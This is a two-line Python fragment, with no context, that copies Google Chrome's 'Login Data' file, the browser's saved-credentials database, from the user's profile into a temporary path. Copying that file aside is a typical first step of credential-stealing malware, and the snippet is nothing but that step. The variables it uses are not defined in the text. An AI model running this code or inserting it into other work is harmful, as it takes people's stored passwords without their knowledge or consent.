import shutil
shutil.copy(home + '/.config/google-chrome/Default/Login Data', tmp)
